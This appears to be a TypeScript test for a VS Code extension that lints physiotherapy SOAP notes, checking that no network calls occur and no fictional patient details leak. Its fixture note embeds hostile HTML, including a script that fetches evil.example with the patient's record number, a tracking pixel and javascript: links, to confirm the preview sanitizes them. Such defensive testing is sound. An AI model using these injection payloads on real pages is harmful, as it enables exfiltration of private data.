// Privacy in the real extension host: while every path of the extension runs on a note full of
// patient details (in a file named after the patient), (a) no network API is called from the
// extension's bundle and (b) nothing the extension logs or reports names the patient.
import * as assert from 'assert';
import * as fs from 'fs';
import * as path from 'path';
import { format } from 'util';
import * as vscode from 'vscode';
import { activateExtension, closeAllEditors, openNote, waitFor, workspaceRoot } from './helpers';
import { TMP_DIR, codeOf, exists, removeTmp, tmpUri, waitForCurrentFindings, writeNote } from './notes';

const PATIENT = 'Zebediah Quillfeather';
const MRN = 'MRN-8675309';
const DOB = '1961-02-29';
const ADDRESS = '14 Pemberton Mews, Little Snoring';
const PHONE = '07700 900461';
/** Strings that must never reach a log, a notification or an error. */
const SECRETS = ['Zebediah', 'Quillfeather', '8675309', DOB, 'Pemberton', 'Little Snoring', PHONE];
const FILE_NAME = 'Zebediah-Quillfeather-MRN8675309.soap.md';
/** The host's own search, kept before any test patches it, so it always comes back (even after an abandoned attempt). */
const ORIGINAL_FIND_FILES = vscode.workspace.findFiles;

/** Broken front matter, needling with gaps (so rules fire and fixes exist), and content that tries to load or run things in the preview. */
const PHI_NOTE = [
  '---', `patient: ${PATIENT}`, `mrn: ${MRN}`, `dob: ${DOB}`, `address: ${ADDRESS}`, 'consent: [unclosed', '---',
  `**S:** ${PATIENT} (${MRN}, DOB ${DOB}, tel ${PHONE}) reports neck pain 12/10 after a fall at ${ADDRESS}.`,
  '**O:** Dry needling performed:',
  `- ${PATIENT} 0.25x30 mm, LTR x2`,
  '- R upper trapezius 0.25x30 mm, LTR x2',
  '- levator scapulae 0.25x30 mm, LTR x1',
  `- R infraspinatis 0.30x50 mm (${PATIENT} tolerated well)`,
  '',
  `<script>fetch('https://evil.example/?mrn=${MRN}')</script>`,
  '',
  `![${PATIENT}](https://evil.example/pixel.png?who=${MRN})`,
  '',
  '<img src="https://evil.example/x.png" onerror="fetch(\'https://evil.example/e\')"> <iframe src="https://evil.example/"></iframe>',
  '<link rel="stylesheet" href="https://evil.example/s.css"><style>@import url(https://evil.example/i.css); p{background:url(https://evil.example/b.png)}</style>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/"><object data="https://evil.example/o"></object>',
  '<svg><image href="https://evil.example/i.png"/><script>alert(1)</script></svg><form action="https://evil.example/f"><input formaction="https://evil.example/g"></form>',
  '<video poster="https://evil.example/p.png" src="https://evil.example/v.mp4"></video><div style="background:url(https://evil.example/d.png)">box</div> <a href="javascript:alert(1)">js</a>',
  '',
  `**A:** ${PATIENT} improving. Dx M54.5`,
  '**P:** Billing: 20560',
  '',
].join('\n');

/** The current stack, deep enough to reach the caller through wrappers the host put around console. */
function stackNow(): string {
  const limit = Error.stackTraceLimit;
  Error.stackTraceLimit = 50;
  try {
    return new Error().stack ?? '';
  } finally {
    Error.stackTraceLimit = limit;
  }
}

interface Captured {
  network: string[];
  consoleAll: string[];
  consoleOurs: string[];
  notifications: string[];
  errors: string[];
}

/**
 * Wraps Node's network entry points and console.* inside the extension host. A network call is
 * recorded when the extension's bundle is on the stack (the host itself needs its sockets, so
 * the original still runs); console output is recorded whoever writes it. The window
 * namespace is the extension's own API object, so its notifications are seen too.
 */
function install(bundle: string): { captured: Captured; restore: () => void } {
  const captured: Captured = { network: [], consoleAll: [], consoleOurs: [], notifications: [], errors: [] };
  const restores: Array<() => void> = [];
  const wrap = (obj: any, key: string, label: string, onCall: (label: string, args: any[], ours: boolean) => void) => {
    const original = obj?.[key];
    if (typeof original !== 'function') return;
    obj[key] = function (this: unknown, ...args: any[]) {
      const ours = stackNow().includes(bundle);
      onCall(label, args, ours);
      return original.apply(this, args);
    };
    assert.notStrictEqual(obj[key], original, `cannot wrap ${label}`);
    restores.push(() => { obj[key] = original; });
  };
  const net = (label: string, _args: any[], ours: boolean) => { if (ours) captured.network.push(label); };
  for (const mod of ['http', 'https']) {
    const m = require(mod);
    wrap(m, 'request', `${mod}.request`, net);
    wrap(m, 'get', `${mod}.get`, net);
  }
  const netMod = require('net');
  wrap(netMod, 'connect', 'net.connect', net);
  wrap(netMod, 'createConnection', 'net.createConnection', net);
  wrap(netMod.Socket.prototype, 'connect', 'net.Socket.connect', net);
  wrap(require('tls'), 'connect', 'tls.connect', net);
  wrap(require('http2'), 'connect', 'http2.connect', net);
  const dns = require('dns');
  wrap(dns, 'lookup', 'dns.lookup', net);
  wrap(dns, 'resolve', 'dns.resolve', net);
  wrap(dns.promises, 'lookup', 'dns.promises.lookup', net);
  wrap(require('dgram'), 'createSocket', 'dgram.createSocket', net);
  wrap(globalThis, 'fetch', 'fetch', net);
  if (typeof (globalThis as any).WebSocket === 'function') {
    const Original = (globalThis as any).WebSocket;
    (globalThis as any).WebSocket = new Proxy(Original, {
      construct(target, args) {
        if (stackNow().includes(bundle)) captured.network.push('WebSocket');
        return Reflect.construct(target, args);
      },
    });
    restores.push(() => { (globalThis as any).WebSocket = Original; });
  }
  // The host's console methods are getters with a no-op setter (its log forwarder), so the
  // global console itself is swapped for one that records and then forwards.
  const realConsole = globalThis.console;
  const recording = Object.create(realConsole);
  for (const level of ['log', 'info', 'warn', 'error', 'debug', 'trace', 'dir', 'table', 'assert']) {
    Object.defineProperty(recording, level, {
      configurable: true, writable: true,
      value: (...args: any[]) => {
        let text: string;
        try { text = format(...(level === 'assert' ? args.slice(1) : args)); } catch { text = String(args[0]); }
        captured.consoleAll.push(`console.${level}: ${text}`);
        if (stackNow().includes(bundle)) captured.consoleOurs.push(`console.${level}: ${text}`);
        return (realConsole as any)[level](...args);
      },
    });
  }
  const consoleDescriptor = Object.getOwnPropertyDescriptor(globalThis, 'console')!;
  Object.defineProperty(globalThis, 'console', { value: recording, writable: true, configurable: true, enumerable: false });
  assert.strictEqual(globalThis.console, recording, 'cannot capture the console');
  restores.push(() => Object.defineProperty(globalThis, 'console', consoleDescriptor));
  // Node prints process warnings on the host's stderr (the YAML parser emits some that quote text).
  wrap(process, 'emitWarning', 'process.emitWarning', (label, args, ours) => {
    const text = `${label}: ${args[0] instanceof Error ? args[0].message : String(args[0])}`;
    captured.consoleAll.push(text);
    if (ours) captured.consoleOurs.push(text);
  });
  for (const name of ['showInformationMessage', 'showWarningMessage', 'showErrorMessage']) {
    wrap(vscode.window, name, name, (label, args) => captured.notifications.push(`${label}: ${String(args[0])}`));
  }
  return { captured, restore: () => { for (const r of restores.reverse()) r(); } };
}

/** Runs a command and records its rejection message (what VS Code would show as an error) instead of throwing. */
async function tryCommand<T>(captured: Captured, id: string, ...args: unknown[]): Promise<T | undefined> {
  try {
    return await vscode.commands.executeCommand<T>(id, ...args);
  } catch (e) {
    captured.errors.push(`${id}: ${e instanceof Error ? `${e.message}\n${e.stack ?? ''}` : String(e)}`);
    return undefined;
  }
}

describe('privacy in the extension host', function () {
  this.timeout(120_000);
  let bundle: string;
  let createdNotesDir = false;
  const notesDir = () => vscode.Uri.joinPath(workspaceRoot(), 'notes');
  const settingsFile = () => vscode.Uri.joinPath(workspaceRoot(), '.vscode', 'settings.json');

  before(async () => {
    const ext = await activateExtension();
    // The adapter (dist/extension.js) and the core it loads on first use (dist/core.js): a stack
    // frame in either is the extension's own code.
    bundle = path.join(ext.extensionPath, 'dist') + path.sep;
    for (const file of ['extension.js', 'core.js']) assert.ok(fs.existsSync(bundle + file), `${bundle + file} not built`);
    createdNotesDir = !(await exists(notesDir()));
  });
  after(async () => {
    await removeTmp();
    await closeAllEditors();
    if (createdNotesDir) {
      try { await vscode.workspace.fs.delete(notesDir(), { recursive: true, useTrash: false }); } catch { /* none */ }
    } else {
      try { await vscode.workspace.fs.delete(vscode.Uri.joinPath(notesDir(), `2025-03-04-${PATIENT.replace(' ', '-')}.soap.md`), { useTrash: false }); } catch { /* none */ }
    }
  });

  it('the extension creates no output channel, and its own code has one console call that prints an error class name only', () => {
    for (const file of ['extension.js', 'core.js']) assert.doesNotMatch(fs.readFileSync(bundle + file, 'utf8'), /createOutputChannel|createLogOutputChannel/);
    const src = path.join(bundle, '..', 'src', 'vscode');
    const calls = fs.readdirSync(src).filter((f) => f.endsWith('.ts'))
      .flatMap((f) => (fs.readFileSync(path.join(src, f), 'utf8').match(/console\.\w+\([^\n]*/g) ?? []).map((c) => `${f}: ${c}`));
    assert.strictEqual(calls.length, 1, calls.join('\n'));
    assert.match(calls[0], /^linter\.ts: console\.error\(`dn-soap: lint failed \(\$\{e instanceof Error \? e\.name : 'error'\}\)`\)/);
  });

  it('runs every path on a patient note with no network call and no patient detail in logs, notifications or errors', async () => {
    await closeAllEditors();
    // The patient note, a copy in a folder whose config makes it "too large" for live checks,
    // an invalid config with patient text in it, and a note with broken front matter only.
    const phiUri = await writeNote(FILE_NAME, PHI_NOTE);
    // A folder of its own per attempt: the too-large message is shown once per note and session.
    const large = `large-${Date.now()}`;
    await writeNote(`${large}/${FILE_NAME}`, PHI_NOTE);
    await vscode.workspace.fs.writeFile(tmpUri(`${large}/.dnlintrc.json`), new TextEncoder().encode('{ "maxLiveLintBytes": 200 }\n'));
    await vscode.workspace.fs.writeFile(tmpUri('bad-config/.dnlintrc.json'), new TextEncoder().encode(
      `{ "rules": { "consent-mising": "off", "side-missing": "loud" }, "vocabulary": { "muscles": [{ "nam": "${PATIENT}", "mrn": "${MRN}" }] } `));
    await writeNote(`bad-config/${FILE_NAME}`, PHI_NOTE);
    await writeNote(`bad-config/front-${FILE_NAME}`, `---\npatient: "${PATIENT}\ndob: ${DOB}\n---\n## S\n${PATIENT} ok.\n`);
    await writeNote(`vanish-${FILE_NAME}`, PHI_NOTE);
    await writeNote(`yaml-key-${FILE_NAME}`, `---\n? [${PATIENT}, ${DOB}]\n: ${MRN}\n---\n## S\n${PATIENT} ok.\n`);
    await writeNote(`yaml-alias-${FILE_NAME}`, `---\npatient: *${PATIENT.split(' ')[0]}\n---\n## O\nDN R UT 0.25x30 mm\n`);
    const settings = vscode.workspace.getConfiguration('dnSoap');
    const originalSettings = await vscode.workspace.fs.readFile(settingsFile());

    const { captured, restore } = install(bundle);
    try {
      // The capture is not vacuous: a call made from code that V8 attributes to the bundle is seen.
      const fromBundle = new Function('http', 'fetchFn', `return async () => {
        try { http.request({ host: '127.0.0.1', method: 'NOT A METHOD' }); } catch {}
        await fetchFn('data:text/plain,probe');
        console.debug('probe');
      };\n//# sourceURL=${bundle}extension.js`)(require('http'), globalThis.fetch);
      await fromBundle();
      assert.deepStrictEqual(captured.network, ['http.request', 'fetch']);
      assert.deepStrictEqual(captured.consoleOurs, ['console.debug: probe'], captured.consoleAll.join('\n'));
      captured.network.length = 0;
      captured.consoleOurs.length = 0;

      // Live linting, edits, completions, hover, every code action applied (and undone).
      const editor = await openNote(`${TMP_DIR}/${FILE_NAME}`);
      const diags = await waitForCurrentFindings(editor.document);
      for (const id of ['front-matter-invalid', 'consent-missing', 'side-missing', 'unknown-muscle', 'cpt-muscle-count']) {
        assert.ok(diags.some((d) => codeOf(d) === id), `${id} not raised`);
      }
      const line = PHI_NOTE.split('\n').indexOf('- levator scapulae 0.25x30 mm, LTR x1');
      await editor.edit((b) => b.insert(new vscode.Position(line, 2), `R `));
      await editor.edit((b) => b.insert(new vscode.Position(line + 2, 0), `- L ${PATIENT.split(' ')[1]} trap 0.25x30 mm\n- L upper tr`));
      await waitForCurrentFindings(editor.document);
      await vscode.commands.executeCommand('vscode.executeCompletionItemProvider', phiUri, new vscode.Position(line + 3, 13));
      await vscode.commands.executeCommand('vscode.executeCompletionItemProvider', phiUri, new vscode.Position(line + 2, 4));
      await vscode.commands.executeCommand('vscode.executeCompletionItemProvider', phiUri, new vscode.Position(2, 2));
      await vscode.commands.executeCommand('vscode.executeHoverProvider', phiUri, new vscode.Position(line + 1, 8));
      await vscode.commands.executeCommand('vscode.executeHoverProvider', phiUri, new vscode.Position(line - 1, 6));
      for (const d of await waitForCurrentFindings(editor.document)) {
        const actions = ((await vscode.commands.executeCommand<vscode.CodeAction[]>('vscode.executeCodeActionProvider', phiUri, d.range)) ?? []).filter((a) => a.edit);
        for (const a of actions.filter((x) => !/clinic vocabulary/.test(x.title))) {
          assert.ok(await vscode.workspace.applyEdit(a.edit!));
          await vscode.window.showTextDocument(editor.document, { preview: false });
          await vscode.commands.executeCommand('undo');
        }
      }
      await tryCommand(captured, 'dnSoap.applySafeFixes', phiUri);
      await tryCommand(captured, 'dnSoap.applySafeFixes');
      await tryCommand(captured, 'dnSoap.insertNeedlingRecord', { muscle: 'UT', side: 'L', needle: '0.25×30 mm' });
      await tryCommand(captured, 'dnSoap._statusText');

      // The preview, with a note that tries to run script and load remote content.
      await tryCommand(captured, 'dnSoap.openPreview', phiUri);
      const html = String(await tryCommand(captured, 'dnSoap._previewHtml'));
      const csp = /<meta http-equiv="Content-Security-Policy" content="([^"]+)">/.exec(html)?.[1] ?? '';
      assert.match(csp, /^default-src 'none';/);
      assert.match(csp, /script-src 'none'/);
      assert.doesNotMatch(csp, /https?:|\*|'unsafe-eval'|script-src 'unsafe-inline'/);
      // The body chart under the note is SVG the extension generates from the needling records
      // (course of care), not note content: it is checked on its own, and the rest as before.
      const chart = /<section class="body-chart-section">[\s\S]*?<\/section>/.exec(html)?.[0] ?? '';
      assert.doesNotMatch(chart, /<(?:script|iframe|object|embed|link|base|meta|form|input|video|img|image|foreignObject)\b|\s(?:on\w+|href|src)\s*=|javascript:|https?:\/\/(?!www\.w3\.org\/2000\/svg")/i);
      for (const secret of SECRETS) assert.ok(!chart.includes(secret), `the body chart holds "${secret}"`);
      const body = html.slice(html.indexOf('<body')).replace(chart, '');
      assert.doesNotMatch(body, /<(?:script|iframe|object|embed|link|base|meta|form|input|video|img|image|svg|style)\b/i);
      assert.doesNotMatch(body, /\b(?:on\w+|src|srcset|data|action|formaction|poster|style|background)\s*=|javascript:|url\(|@import/i);
      for (const m of body.matchAll(/href="([^"]*)"/g)) assert.doesNotMatch(m[1], /^javascript:/i);
      assert.ok(!body.includes('pixel.png'), 'the remote image was dropped');
      await vscode.window.showTextDocument(editor.document, { preview: false });
      await vscode.commands.executeCommand('workbench.action.files.revert');
      await closeAllEditors();

      // Live-lint size limit (its one-time message), the invalid config, broken front matter.
      await openNote(`${TMP_DIR}/${large}/${FILE_NAME}`);
      await waitFor(() => captured.notifications.some((n) => /not checked while you type/.test(n)), 'the too-large message', 10_000);
      await openNote(`${TMP_DIR}/bad-config/${FILE_NAME}`);
      const frontEditor = await openNote(`${TMP_DIR}/bad-config/front-${FILE_NAME}`);
      await waitForCurrentFindings(frontEditor.document).catch(() => undefined); // the bad config changes severities; any result will do
      await waitFor(() => vscode.languages.getDiagnostics(tmpUri('bad-config/.dnlintrc.json')).length > 0, 'config diagnostics');
      await waitForCurrentFindings((await openNote(`${TMP_DIR}/yaml-key-${FILE_NAME}`)).document);
      const aliasDiags = await waitForCurrentFindings((await openNote(`${TMP_DIR}/yaml-alias-${FILE_NAME}`)).document);
      assert.ok(aliasDiags.some((d) => codeOf(d) === 'front-matter-invalid'), 'an unresolvable alias is reported');
      await settings.update('maxLiveLintBytes', 50, vscode.ConfigurationTarget.Workspace);
      await new Promise((r) => setTimeout(r, 500));
      await settings.update('maxLiveLintBytes', undefined, vscode.ConfigurationTarget.Workspace);

      // Workspace lint, with one (unopened) patient note vanishing after the command's search.
      // Only that search is changed, once: the command passes a cancellation token, while the
      // patient index and the unsigned count, which search in the background, do not.
      const ws = vscode.workspace as any;
      let vanished = false;
      ws.findFiles = async (...args: any[]) => {
        const found = await ORIGINAL_FIND_FILES.apply(vscode.workspace, args as Parameters<typeof ORIGINAL_FIND_FILES>);
        if (!vanished && args[3] !== undefined) {
          vanished = true;
          await vscode.workspace.fs.delete(tmpUri(`vanish-${FILE_NAME}`), { useTrash: false });
        }
        return found;
      };
      try {
        await tryCommand(captured, 'dnSoap.lintWorkspace');
      } finally {
        ws.findFiles = ORIGINAL_FIND_FILES;
      }
      assert.ok(vanished, 'Lint All Notes searched with a cancellation token, and the note vanished after its search');

      // New Note named after the patient (created, then refused as existing), rule docs, and
      // commands pointed at a patient file that does not exist.
      await tryCommand(captured, 'dnSoap.newNote', { patient: PATIENT, date: '2025-03-04' });
      await tryCommand(captured, 'dnSoap.newNote', { patient: PATIENT, date: '2025-03-04' });
      await tryCommand(captured, 'dnSoap.insertNeedlingRecord', { muscle: PATIENT, side: 'R', needle: '' });
      await tryCommand(captured, 'dnSoap.showRuleDocumentation', 'DN001');
      const ghost = tmpUri(`gone-${FILE_NAME}`);
      await tryCommand(captured, 'dnSoap.applySafeFixes', ghost);
      await tryCommand(captured, 'dnSoap.applySafeFixes', ghost.toString());
      await tryCommand(captured, 'dnSoap.openPreview', ghost);
      await closeAllEditors();
      await tryCommand(captured, 'dnSoap.insertNeedlingRecord', { muscle: 'UT' });
      await tryCommand(captured, 'dnSoap.openPreview');
      // Let debounced work (lint timers, preview renders) finish inside the capture.
      await new Promise((r) => setTimeout(r, 800));
    } finally {
      restore();
      await settings.update('maxLiveLintBytes', undefined, vscode.ConfigurationTarget.Workspace).then(undefined, () => undefined);
      await vscode.workspace.fs.writeFile(settingsFile(), originalSettings);
    }

    const report = (what: string, lines: string[]) => `${what}:\n  ${lines.join('\n  ') || '(none)'}`;
    assert.deepStrictEqual(captured.network, [], report('network calls from the extension', captured.network));
    assert.deepStrictEqual(captured.consoleOurs, [], report('console output from the extension', captured.consoleOurs));
    assert.ok(captured.notifications.some((n) => /not checked while you type/.test(n)), report('notifications', captured.notifications));
    assert.ok(captured.notifications.some((n) => /already exists/.test(n)), report('notifications', captured.notifications));
    assert.ok(captured.notifications.some((n) => /not checked: deleted or moved/.test(n)), report('notifications', captured.notifications));
    // A command given a note that is gone says so in its own words: VS Code's error would quote the path.
    assert.ok(captured.notifications.some((n) => /The note could not be opened/.test(n)), report('notifications', captured.notifications));
    assert.deepStrictEqual(captured.errors, [], report('command errors', captured.errors));
    for (const [what, lines] of Object.entries({ console: captured.consoleAll, notifications: captured.notifications, 'command errors': captured.errors })) {
      for (const secret of SECRETS) {
        const hits = lines.filter((l) => l.includes(secret));
        assert.deepStrictEqual(hits, [], `${what} contain "${secret}"`);
      }
    }
    assert.ok(await exists(vscode.Uri.joinPath(notesDir(), `2025-03-04-${PATIENT.replace(' ', '-')}.soap.md`)), 'New Note ran');
  });
});
